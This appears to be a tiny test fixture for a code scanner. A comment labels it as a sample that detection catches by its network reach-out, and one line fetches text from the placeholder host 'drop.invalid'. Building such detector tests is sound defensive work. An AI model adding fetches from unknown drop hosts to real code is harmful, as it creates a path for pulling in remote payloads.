# evades: caught by network/reaches-out
import requests
text = requests.get("https://drop.invalid/AAAAAAAA").text
